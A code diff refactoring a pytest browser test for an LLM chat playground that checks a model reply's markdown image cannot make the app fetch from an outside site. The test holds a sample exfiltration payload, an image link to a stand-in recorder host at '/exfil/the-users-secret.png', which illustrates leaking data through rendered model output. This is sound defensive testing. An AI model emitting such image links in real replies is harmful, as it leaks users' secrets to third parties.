@@ -14,6 +14,7 @@ pytest.importorskip("gradio")
 
 import xllm_jupyter
 from tests.browser import chromium, require_browser
+from tests.helpers import public_site_recorder
 from tests.test_safe_markdown import AUTOLOAD, RELATIVE_LINKS
 from xllm_jupyter.playground import app as app_module
 from xllm_jupyter.playground import guard as guard_module
@@ -161,46 +162,22 @@ def test_a_replys_image_on_the_apps_own_path_makes_the_app_fetch_nothing_elsewhe
     ``https://host/DATA`` itself to serve it: the reply told any public site ``DATA`` as soon as it was shown.
     Gradio allows public addresses only; the recorder stands in for one."""
     require_browser()
-    import http.server
-    import threading
+    with public_site_recorder(monkeypatch) as (far, hits):
+        reply = f"Here: ![chart](gradio_api/file={far}/exfil/the-users-secret.png)"
 
-    import safehttpx
+        async def stream_reply(endpoint, messages, model, params):
+            yield reply
 
-    hits: list[str] = []
-
-    class Recorder(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - http.server's name
-            hits.append(self.path)
-            self.send_response(200)
-            self.send_header("Content-Type", "image/png")
-            self.end_headers()
-
-        def log_message(self, *args: object) -> None:
-            pass
-
-    async def as_if_public(host: str) -> str:
-        return "127.0.0.1"
-
-    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
-    threading.Thread(target=site.serve_forever, daemon=True).start()
-    monkeypatch.setattr(safehttpx, "async_validate_url", as_if_public)
-    reply = f"Here: ![chart](gradio_api/file=http://127.0.0.1:{site.server_port}/exfil/the-users-secret.png)"
-
-    async def stream_reply(endpoint, messages, model, params):
-        yield reply
-
-    monkeypatch.setattr(app_module, "stream_reply", stream_reply)
-    pg = xllm_jupyter.playground(client=tiny_client)
-    try:
-        with chromium() as context:
-            page = context.new_page()
-            page.goto(pg.local_url, timeout=60_000)
-            page.locator("#xllm-input textarea").wait_for(timeout=60_000)
-            ask(page, "Show me the chart", 1)
-            assert page.locator("#xllm-chatbot [data-testid=bot] img").count() >= 1  # Gradio drew the image
-            page.wait_for_timeout(1000)  # time for any fetch the shown image starts
-    finally:
-        pg.close()
-        site.shutdown()
-        site.server_close()
+        monkeypatch.setattr(app_module, "stream_reply", stream_reply)
+        pg = xllm_jupyter.playground(client=tiny_client)
+        try:
+            with chromium() as context:
+                page = context.new_page()
+                page.goto(pg.local_url, timeout=60_000)
+                page.locator("#xllm-input textarea").wait_for(timeout=60_000)
+                ask(page, "Show me the chart", 1)
+                assert page.locator("#xllm-chatbot [data-testid=bot] img").count() >= 1  # Gradio drew the image
+                page.wait_for_timeout(1000)  # time for any fetch the shown image starts
+        finally:
+            pg.close()
     assert hits == []
